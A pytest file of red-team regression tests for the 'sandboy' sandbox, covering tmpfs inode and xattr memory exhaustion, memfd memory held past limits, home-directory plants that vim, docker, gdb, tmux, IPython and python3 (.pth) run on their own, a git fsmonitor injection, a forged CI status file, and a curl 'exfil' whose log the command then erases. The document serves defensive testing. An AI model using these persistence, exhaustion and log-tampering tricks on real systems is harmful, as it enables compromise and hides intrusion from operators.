"""Session 12 review of the cage from the attacker's side (redcage12).

What got through, each with its probe here (host side, a legitimate twin in the same run):

- The tier's tmpfs mounts were bounded by `size` only. A tmpfs's inodes and its user xattrs live
  in kernel memory outside `size`, up to the kernel's default inode count (half the RAM's pages):
  in the 64 MiB `/dev/shm` a command made 3,085,445 empty files (1.1 GiB of unreclaimable slab)
  or 52,614 xattrs of 60 KB (3.3 GiB of the host's memory) on this 24 GiB machine, as root and as
  an ordinary user; `{tmp}` the same on top of its size. Now each has `nr_inodes` (one per 4 KiB
  of size; `namespaces.SHM_OPTIONS`, `namespaces.tmp_options`).

What held is listed in docs/threat-model.md ("Session 12 review of the cage").
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from sandboy.confine import namespaces

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/: userkit
import userkit  # noqa: E402

pytestmark = pytest.mark.needs_kernel

SANDBOY = os.path.join(os.path.dirname(sys.executable), "sandboy")
MEMORY_MIB = 256  # limits.memory_mib: {tmp}'s size

# Inside the cage: in each directory, empty files until refused (at most CAP), then 60 KB user
# xattrs until refused (at most XATTR_CAP bytes); the twin's uses (a 60 MiB file in /dev/shm, a
# small xattr, ordinary files in {tmp}) after the fill has been removed. Says what it did in
# `said`, then waits for the host to look at its mounts through /proc/PID/root.
FILL = r"""
import errno, json, os, sys, time
work, marker = sys.argv[1], sys.argv[2]
CAP, XATTR_CAP, VALUE = 120_000, 96 << 20, b"x" * 60_000
out = {"tmpdir": os.environ["TMPDIR"]}
for name, where in (("shm", "/dev/shm"), ("tmp", os.environ["TMPDIR"])):
    made = 0
    try:
        while made < CAP:
            os.close(os.open(f"{where}/f{made}", os.O_CREAT | os.O_WRONLY | os.O_CLOEXEC, 0o600))
            made += 1
        stop = "cap"
    except OSError as exc:
        stop = errno.errorcode[exc.errno]
    for i in range(made):
        os.unlink(f"{where}/f{i}")
    xattrs = 0
    os.close(os.open(f"{where}/x", os.O_CREAT | os.O_WRONLY | os.O_CLOEXEC, 0o600))
    try:
        while xattrs * len(VALUE) < XATTR_CAP:
            os.setxattr(f"{where}/x", f"user.a{xattrs}", VALUE)
            xattrs += 1
        xstop = "cap"
    except OSError as exc:
        xstop = errno.errorcode[exc.errno]
    os.unlink(f"{where}/x")
    out[name] = {"files": made, "stop": stop, "xattr_bytes": xattrs * len(VALUE), "xstop": xstop}
# the twin: what ordinary work needs from these mounts still works
with open("/dev/shm/big", "wb") as fh:
    fh.write(b"\0" * (60 << 20))
os.setxattr("/dev/shm/big", "user.mime_type", b"application/octet-stream")
os.makedirs(os.environ["TMPDIR"] + "/build/obj")
for i in range(2000):
    with open(os.environ["TMPDIR"] + f"/build/obj/{i}.o", "w") as fh:
        fh.write("o")
out["twin"] = os.getxattr("/dev/shm/big", "user.mime_type").decode() + f" {len(os.listdir(os.environ['TMPDIR'] + '/build/obj'))}"
with open(work + "/said.tmp", "w") as fh:
    json.dump(out, fh)
os.rename(work + "/said.tmp", work + "/said")
deadline = time.monotonic() + 60
while not os.path.exists(work + "/seen") and time.monotonic() < deadline:
    time.sleep(0.05)
"""


def _command_pid(marker: str, script: bytes = b"fill.py") -> int:
    """The host pid of the caged python carrying `marker` in its command line."""
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    argv = fh.read().split(b"\0")
            except OSError:
                continue
            if argv[-2:] == [marker.encode(), b""] and argv[1].endswith(script):  # not the launcher
                return int(entry)
    raise AssertionError(f"no caged process carries {marker}")


@pytest.mark.parametrize("who", ["root", "nobody"])
def test_tmpfs_inodes_and_xattrs_cannot_take_the_hosts_memory_beyond_the_size(who):
    if not namespaces.availability()[0]:
        pytest.skip("no namespace tier here")
    if who == "nobody":
        userkit.skip_unless_nobody_can_run()
    import sandboy

    src = os.path.dirname(os.path.dirname(os.path.abspath(sandboy.__file__)))
    marker = f"redcage12-{uuid.uuid4().hex}"
    with userkit.world_readable_tmp("redcage12-") as where:
        work = where / "w"
        work.mkdir()
        (where / "fill.py").write_text(FILL)
        policy = where / "p.toml"
        policy.write_text('version = 1\n[fs]\nread = ["/usr", "/etc", "%s"]\nexec = ["/usr/bin"]\n'
                          'write = ["%s", "{tmp}"]\n[limits]\nmemory_mib = %d\n' % (where, work, MEMORY_MIB))
        os.chmod(work, 0o777)
        env = {"PATH": "/usr/bin:/bin", "HOME": str(where), "SANDBOY_CACHE_DIR": str(where / "cache"),
               "SANDBOY_NAMESPACES": "1"}
        argv = [SANDBOY, "run", "--policy", str(policy), "--", "/usr/bin/python3", str(where / "fill.py"),
                str(work), marker]
        if who == "nobody":
            env["PYTHONPATH"] = src
            argv = userkit.as_user(["/usr/bin/python3", "-m", "sandboy", *argv[1:]])
        proc = subprocess.Popen(argv, env=env, cwd=work, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            deadline = time.monotonic() + 90
            while not (work / "said").exists():
                assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
                time.sleep(0.1)
            # host side: the cage's own mounts, seen through the command's root
            pid = _command_pid(marker)
            tmp = json.loads((work / "said").read_text())["tmpdir"]
            seen = {name: os.statvfs(f"/proc/{pid}/root{path}") for name, path in (("shm", "/dev/shm"), ("tmp", tmp))}
            (work / "seen").touch()
            out, err = proc.communicate(timeout=60)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        said = json.loads((work / "said").read_text())
    assert proc.returncode == 0, (out, err)
    inodes = {"shm": (64 << 20) // 4096, "tmp": (MEMORY_MIB << 20) // 4096}
    for name, most in inodes.items():
        # host side: the mount allows one inode per 4 KiB of its size, not half the RAM's pages
        assert seen[name].f_files == most, (name, seen[name])
        # the command: refused at that count (ENOSPC), and its xattrs at a quarter of the size —
        # before the fix 120,000 files and 96 MiB of xattrs went into a 64 MiB /dev/shm
        assert said[name]["stop"] == "ENOSPC" and said[name]["files"] < most, said
        assert said[name]["xstop"] == "ENOSPC" and said[name]["xattr_bytes"] <= most * 1024, said
    assert said["twin"] == "application/octet-stream 2000", said


# Plants for what a host program runs by itself from a home directory, and the program that runs
# each (`HOME` the planted home); each leaves a marker named after it when its plant runs.
PLANTS = {
    "vim": (".vim/plugin/p.vim", "call writefile([], '{m}/vim')\n", ["vim", "--not-a-term", "-c", "qa"]),
    "docker": (".docker/cli-plugins/docker-buildx",
               '#!/bin/sh\ntouch {m}/docker\necho \'{{"SchemaVersion":"0.1.0","Vendor":"x","Version":"1"}}\'\n',
               ["docker", "buildx", "version"]),
    "gdb": (".gdbinit", "shell touch {m}/gdb\n", ["gdb", "-batch"]),
    "tmux": (".tmux.conf", "run-shell 'touch {m}/tmux'\n", None),  # started below: a server of its own
    "ipython": (".ipython/profile_default/startup/00.py", "open('{m}/ipython', 'w')\n", ["ipython", "-c", "pass"]),
}


def _host_programs_run(home: Path, marker_dir: Path) -> list:
    """Start each program the plants aim at, as the operator would (HOME the planted home); the
    names whose plant ran (their markers)."""
    env = dict(os.environ, HOME=str(home), TERM="dumb")
    env.pop("TMUX", None)
    for name, (_, _, argv) in PLANTS.items():
        if argv is None:
            sock = f"redcage12-{uuid.uuid4().hex[:8]}"
            subprocess.run(["tmux", "-L", sock, "new-session", "-d", "sleep 5"], env=env, capture_output=True,
                           timeout=20)
            time.sleep(0.5)
            subprocess.run(["tmux", "-L", sock, "kill-server"], env=env, capture_output=True, timeout=20)
        else:
            subprocess.run(argv, env=env, cwd=home, stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
    return sorted(os.listdir(marker_dir))


def test_a_run_granted_the_home_cannot_plant_what_host_programs_run_by_themselves(tmp_path):
    """vim's ~/.vim/plugin, docker's ~/.docker/cli-plugins (`docker build` runs docker-buildx),
    ~/.gdbinit, ~/.tmux.conf, IPython's startup scripts were outside the protected defaults: a run
    granted the home planted each, and the operator's next vim, docker, gdb, tmux, ipython ran it.
    Now each existing one is bound read-only under the tier. Host side: the real programs run
    nothing; twin: the rest of the home written in the same run."""
    import shutil

    if not namespaces.availability()[0]:
        pytest.skip("no namespace tier here")
    missing = [name for name in PLANTS if not shutil.which(name)]
    if missing:
        pytest.skip(f"not installed here: {', '.join(missing)}")
    home, markers = tmp_path / "home", tmp_path / "markers"
    markers.mkdir()
    for rel, _, _ in PLANTS.values():  # what the operator has: each directory (and an ordinary .gdbinit, .tmux.conf)
        target = home / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        if rel in (".gdbinit", ".tmux.conf"):
            target.write_text("# the operator's\n")
    # a plugin manager's packages: thousands of files in ~/.vim, which must not refuse the run
    # (protecting ~/.vim whole did: past the link scan's bound, 125)
    big = home / ".vim" / "pack" / "plugins" / "start" / "big"
    big.mkdir(parents=True)
    for i in range(2500):
        (big / f"f{i}.vim").touch()
    plant = "".join(f"printf %s {shlex.quote(text.format(m=markers))} >> {rel} 2>/dev/null || echo refused {name}; "
                    for name, (rel, text, _) in PLANTS.items())
    plant += "chmod +x .docker/cli-plugins/docker-buildx 2>/dev/null; echo work > work.txt && echo WROTE"
    policy = tmp_path / "p.toml"
    policy.write_text('version = 1\n[fs]\nread = ["/usr", "/etc"]\nexec = ["/usr/bin", "/bin"]\nwrite = ["%s"]\n' % home)
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "SANDBOY_CACHE_DIR": str(tmp_path / "cache"),
           "SANDBOY_NAMESPACES": "1"}
    done = subprocess.run([SANDBOY, "run", "--policy", str(policy), "--", "/bin/sh", "-c", plant], env=env, cwd=home,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and "WROTE" in done.stdout, done
    assert (home / "work.txt").read_text() == "work\n"  # the twin: the home is still the run's to write
    assert _host_programs_run(home, markers) == [], "a host program ran what the caged command planted"
    assert sorted(line.split()[1] for line in done.stdout.split("\n") if line.startswith("refused")) == sorted(PLANTS)


MEMFD = r"""
import os, sys, time
work = sys.argv[1]
fd = os.memfd_create("held")
chunk, written = b"\1" * (1 << 20), 0
try:
    while written < 256:
        os.write(fd, chunk)  # never mapped: no address space is taken
        written += 1
except OSError:
    pass
try:
    bytearray(128 << 20)
    mapped = "ok"
except MemoryError:
    mapped = "MemoryError"
with open(work + "/said.tmp", "w") as fh:
    fh.write(f"{fd} {written} {mapped}")
os.rename(work + "/said.tmp", work + "/said")
deadline = time.monotonic() + 60
while not os.path.exists(work + "/seen") and time.monotonic() < deadline:
    time.sleep(0.05)
"""


@pytest.mark.xfail(strict=True, reason="limits.memory_mib is RLIMIT_AS for `sandboy run`: pages written "
                   "into a memfd (or a pipe) are never mapped and count against no rlimit; only a gate "
                   "step's memory cgroup bounds them (threat model, 'What it does not stop')")
@pytest.mark.parametrize("tier", ["tier", "forced-off"])
def test_limits_memory_bounds_what_a_memfd_holds(tmp_path, tier):
    """With `limits.memory_mib = 64` a command holds 256 MiB of the host's memory in a memfd it
    writes and never maps. Host side: the memfd's size through /proc/PID/fd. Twin: mapping
    128 MiB is refused (RLIMIT_AS)."""
    if tier == "tier" and not namespaces.availability()[0]:
        pytest.skip("no namespace tier here")
    marker = f"redcage12-{uuid.uuid4().hex}"
    work = tmp_path / "w"
    work.mkdir()
    (tmp_path / "memfd.py").write_text(MEMFD)
    policy = tmp_path / "p.toml"
    policy.write_text('version = 1\n[fs]\nread = ["/usr", "/etc", "%s"]\nexec = ["/usr/bin"]\nwrite = ["%s"]\n'
                      "[limits]\nmemory_mib = 64\n" % (tmp_path, work))
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "SANDBOY_CACHE_DIR": str(tmp_path / "cache"),
           "SANDBOY_NAMESPACES": "1" if tier == "tier" else "0"}
    proc = subprocess.Popen([SANDBOY, "run", "--policy", str(policy), "--", "/usr/bin/python3",
                             str(tmp_path / "memfd.py"), str(work), marker], env=env, cwd=work,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not (work / "said").exists():
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
            time.sleep(0.1)
        fd, written, mapped = (work / "said").read_text().split()
        held = os.stat(f"/proc/{_command_pid(marker, b'memfd.py')}/fd/{fd}").st_size  # host side
        (work / "seen").touch()
        proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert mapped == "MemoryError", mapped  # the twin: RLIMIT_AS holds for mapped memory
    assert held <= 64 << 20, f"the command held {held >> 20} MiB in a memfd under memory_mib = 64"


def _skip_unless_the_system_python_runs_sandboy() -> None:
    """The plan cache keeps runs under the tier only; /usr/bin/python3 (with its user site, unlike
    the venv's) must be the run-path bundle's 3.11."""
    if not namespaces.availability()[0]:
        pytest.skip("the plan cache keeps runs under the namespace tier only")
    check = subprocess.run(["/usr/bin/python3", "-c", "import sys; print(sys.version_info[:2] == (3, 11))"],
                           capture_output=True, text=True)
    if check.stdout.strip() != "True":
        pytest.skip("needs a system python3 3.11 (the run-path bundle's)")


PLANT_PTH = ('mkdir -p "$1" 2>/dev/null; '  # $1 the user site, $2 the marker its .pth makes
             'echo "import os; open(\\"$2\\", \\"w\\")" > "$1/evil.pth" 2>/dev/null && echo PLANTED || echo refused')


def test_a_plan_kept_by_a_run_without_the_user_site_is_not_taken_by_one_that_loads_it(tmp_path):
    """`python3 -s` (or `-I`) runs Sandboy without the user site: its own-installation rows have
    no user site to protect or make (ADR 0024). The plan cache's key held the interpreter's path
    and sys.path[0], not its flags, so a later `python3 -P -m sandboy run` — whose interpreter runs
    the user site's .pth files — took that plan: the command planted `evil.pth` in the user site
    of the granted home, and the operator's next python3 (the next sandboy) ran it. Host side: the
    next python3 runs nothing; twins: the same flags still hit, and the building run protects it."""
    _skip_unless_the_system_python_runs_sandboy()
    import sandboy

    home, mark = tmp_path / "home", tmp_path / "PTH-RAN"
    (home / "work").mkdir(parents=True)
    user_site = subprocess.run(["/usr/bin/python3", "-c", "import site; print(site.getusersitepackages())"],
                               env={"HOME": str(home)}, capture_output=True, text=True).stdout.strip()
    assert user_site.startswith(str(home)), user_site
    policy = tmp_path / "p.toml"
    policy.write_text('version = 1\n[fs]\nread = ["/usr", "/etc"]\nexec = ["/usr/bin", "/bin"]\nwrite = ["%s"]\n' % home)
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home), "SANDBOY_CACHE_DIR": str(tmp_path / "cache"),
           "PYTHONPATH": os.path.dirname(os.path.dirname(os.path.abspath(sandboy.__file__))),
           }

    def run(flags, *argv):
        proc = subprocess.run(["/usr/bin/python3", *flags, "-X", "importtime", "-m", "sandboy", "run", "--policy",
                               str(policy), "--", *argv], env=env, cwd=home / "work", stdin=subprocess.DEVNULL,
                              capture_output=True, text=True, timeout=60)  # stdio of a shape the cache keeps
        proc.hit = "sandboy.confine.cage" not in {line.rsplit("|", 1)[-1].strip() for line in proc.stderr.splitlines()
                                                   if line.startswith("import time:")}
        return proc

    assert not run(["-s", "-P"], "/bin/true").hit
    # the twin: a kept plan serves the same interpreter flags (the first run may keep none: the home
    # made just before it is too recent to settle — `fingerprint.TICK_NS` — failed the Python-executor pass once)
    assert any(run(["-s", "-P"], "/bin/true").hit for _ in range(3))
    planted = run(["-P"], "/bin/sh", "-c", PLANT_PTH, "sh", user_site, str(mark))
    subprocess.run(["/usr/bin/python3", "-P", "-c", "pass"], env={"HOME": str(home), "PATH": "/usr/bin:/bin"},
                   check=True)  # the operator's next python3
    assert not mark.exists(), f"the host's python3 ran a .pth the command planted: {planted.stdout}"
    assert not planted.hit and "refused" in planted.stdout and "user site" in planted.stderr, planted
    # (the user site made by the run before was too recent to keep an entry) ... then a plan of its own
    assert any(run(["-P"], "/bin/true").hit for _ in range(3))


def test_a_plan_kept_with_the_user_site_elsewhere_is_not_taken_once_it_is_in_the_home(tmp_path):
    """The same hole by the environment: `PYTHONUSERBASE` moves the user site out of the granted
    home (nothing to protect there), and the interpreter reads it when it starts, not the build.
    A key narrowed to the variables the build reads would miss it; the key holds `site`'s answer
    itself. Host side: the next python3 runs nothing."""
    _skip_unless_the_system_python_runs_sandboy()
    import sandboy

    home, mark, elsewhere = tmp_path / "home", tmp_path / "PTH-RAN", tmp_path / "elsewhere"
    (home / "work").mkdir(parents=True)
    elsewhere.mkdir()
    user_site = subprocess.run(["/usr/bin/python3", "-c", "import site; print(site.getusersitepackages())"],
                               env={"HOME": str(home)}, capture_output=True, text=True).stdout.strip()
    (home / user_site[len(str(home)) + 1:]).mkdir(parents=True)  # the operator's, made long before
    os.utime(home, (1, 1))
    policy = tmp_path / "p.toml"
    policy.write_text('version = 1\n[fs]\nread = ["/usr", "/etc"]\nexec = ["/usr/bin", "/bin"]\nwrite = ["%s"]\n' % home)
    base = {"PATH": "/usr/bin:/bin", "HOME": str(home), "SANDBOY_CACHE_DIR": str(tmp_path / "cache"),
            "PYTHONPATH": os.path.dirname(os.path.dirname(os.path.abspath(sandboy.__file__)))}

    def run(env, *argv):
        return subprocess.run(["/usr/bin/python3", "-P", "-m", "sandboy", "run", "--policy", str(policy), "--", *argv],
                              env=env, cwd=home / "work", stdin=subprocess.DEVNULL, capture_output=True, text=True,
                              timeout=60)

    time.sleep(0.1)  # (the user site's ctime settled)
    for _ in range(2):
        run(dict(base, PYTHONUSERBASE=str(elsewhere)), "/bin/true")
    planted = run(base, "/bin/sh", "-c", PLANT_PTH, "sh", user_site, str(mark))
    subprocess.run(["/usr/bin/python3", "-P", "-c", "pass"], env={"HOME": str(home), "PATH": "/usr/bin:/bin"},
                   check=True)
    assert not mark.exists() and "refused" in planted.stdout, planted


def test_a_call_newer_than_the_denylist_is_enosys_not_allowed(probe, monkeypatch):
    """The filter is a denylist: a call it does not name runs. On a kernel newer than the list
    every call added since ran unreviewed (on this one, 6.18, the list knows them all — the
    probe pretends the list was written before file_setattr, 469, so that a real call is above
    it). The cage's filter (as `sandboy.run` compiles it) on the real kernel: ENOSYS, where the
    same program with the list's real bound lets the kernel answer (EINVAL here)."""
    from cagekit import cage_bpf, filter_only

    from sandboy.confine import seccomp

    policy = {"version": 1, "fs": {"read": ["/usr"]}}
    argv = [probe, "nr", "469", "-1", "s:x", "0", "0", "0"]  # file_setattr(-1, "x", NULL, 0, 0)
    kernel = filter_only(cage_bpf(policy), argv)
    assert "ENOSYS" not in kernel.out and kernel.out, kernel  # the twin: decided by the kernel
    monkeypatch.setattr(seccomp, "HIGHEST_KNOWN_NR", 468)
    newer = filter_only(cage_bpf(policy), argv)
    assert "ENOSYS" in newer.out, newer


FORGE_STATUS = ('rm -f status.json; printf \'{"outcome": "exec", "forged": true}\\n\' > status.json; '
                'printf "[core]\\n\\tfsmonitor = touch $1\\n" >> .git/config 2>/dev/null; exit 0')


# forced-off-no-check: without the tier and without the git check (fs.protect_defaults = false)
# such a run exec'd in place, its status written before the command started
@pytest.mark.parametrize("tier", ["tier", "forced-off", "forced-off-no-check"])
def test_a_status_file_in_a_write_root_cannot_be_swapped_for_a_forged_one(tmp_path, tier):
    """`sandboy run --status-json status.json` in the project (a write root): the command removed
    the file and wrote a forged status ("exec", no error); Sandboy's real status went to the
    unlinked file, and a CI reading status.json took a failed — without the tier, planted — run
    for a clean one. Now the run fails (125) saying so. Host side: the exit code, the quarantine;
    twins: the same status file written by an ordinary run, and bytes the command appended after
    ours cut off (one JSON document)."""
    if tier == "tier" and not namespaces.availability()[0]:
        pytest.skip("no namespace tier here")
    work = tmp_path / "w"
    work.mkdir()
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    policy = tmp_path / "p.toml"
    policy.write_text('version = 1\n[fs]\nread = ["/usr", "/etc"]\nexec = ["/usr/bin", "/bin"]\nwrite = ["%s"]\n' % work
                      + ("protect_defaults = false\n" if tier == "forced-off-no-check" else ""))
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "SANDBOY_CACHE_DIR": str(tmp_path / "cache"),
           "SANDBOY_NAMESPACES": "1" if tier == "tier" else "0"}

    def run(script):
        return subprocess.run([SANDBOY, "run", "--policy", str(policy), "--status-json", "status.json", "--",
                               "/bin/sh", "-c", script, "sh", str(tmp_path / "PWNED")],
                              env=env, cwd=work, capture_output=True, text=True, timeout=60)

    forged = run(FORGE_STATUS)
    assert forged.returncode == 125 and "not the file this run wrote its status to" in forged.stderr, forged
    # (without the tier the plant itself was judged too: quarantined)
    assert ("core.fsmonitor" in forged.stderr) == (tier == "forced-off"), forged.stderr
    ordinary = run("exit 3")
    assert ordinary.returncode == 3, ordinary
    assert json.loads((work / "status.json").read_text())["outcome"] in ("exec", "exited")  # (tier, supervised)
    appended = run("printf '%2000s{\"forged\": true}\\n' x >> status.json; exit 0")
    assert appended.returncode == 0, appended
    doc = json.loads((work / "status.json").read_text())  # one document: nothing of the command's after it
    assert doc["outcome"] in ("exec", "exited") and "forged" not in (work / "status.json").read_text()
    # a link to /proc/self/fd/3 leads, in Sandboy's process alone, to its own status fd (3 here)
    linked = run("rm -f status.json; ln -s /proc/self/fd/3 status.json; exit 0")
    assert linked.returncode == 125 and "not the file this run wrote its status to" in linked.stderr, linked


@pytest.mark.parametrize("spelled", ["absolute", "{cwd}"])
def test_the_egress_log_cannot_be_where_the_command_rewrites_it(tmp_path, spelled):
    """`--egress-log` is appended by the proxy while the command runs: inside a write root the
    command erased the record of a refused exfiltration (`: > egress.jsonl`, rc 0). Now such a
    path is refused before anything runs (exit 2, naming the option and the fix), as the gate
    refuses its reports there. Twin: a log outside the write roots keeps the refusal, and the
    command cannot touch it. Host side: the log's lines, the marker the command would make."""
    import shutil

    if not shutil.which("curl"):
        pytest.skip("needs curl")
    work = tmp_path / "w"
    work.mkdir()
    hosts = tmp_path / "hosts"
    hosts.write_text("127.0.0.1 allowed.test denied.test\n")
    policy = tmp_path / "p.toml"
    policy.write_text('version = 1\n[fs]\nread = ["/usr", "/etc", "/lib", "/lib64", "/bin"]\n'
                      'exec = ["/usr/bin", "/bin", "/usr/lib"]\nwrite = ["%s"]\n'
                      '[net]\ndomains = ["allowed.test:9"]\nprivate = ["127.0.0.0/8"]\n'
                      % (work if spelled == "absolute" else spelled))  # (a placeholder: as the build resolves it)
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "SANDBOY_CACHE_DIR": str(tmp_path / "cache"),
           "SANDBOY_EGRESS_HOSTS": str(hosts)}
    script = ('touch ran; curl -s -o /dev/null -w "%{http_code}\\n" http://denied.test:9/exfil; '
              '(: > "$1") 2>/dev/null && echo ERASED; exit 0')

    def run(log):
        return subprocess.run([SANDBOY, "run", "--policy", str(policy), "--egress-log", str(log), "--",
                               "/bin/sh", "-c", script, "sh", str(log)],
                              env=env, cwd=work, capture_output=True, text=True, timeout=60)

    inside = run(work / "egress.jsonl")
    assert inside.returncode == 2 and "--egress-log" in inside.stderr and "write roots" in inside.stderr, inside
    assert not (work / "ran").exists() and not (work / "egress.jsonl").exists()  # nothing ran
    outside = run(tmp_path / "egress.jsonl")
    assert outside.returncode == 0 and "403" in outside.stdout and "ERASED" not in outside.stdout, outside
    decisions = [json.loads(line) for line in (tmp_path / "egress.jsonl").read_text().splitlines()]
    assert [(d["decision"], d["host"]) for d in decisions] == [("deny", "denied.test")]
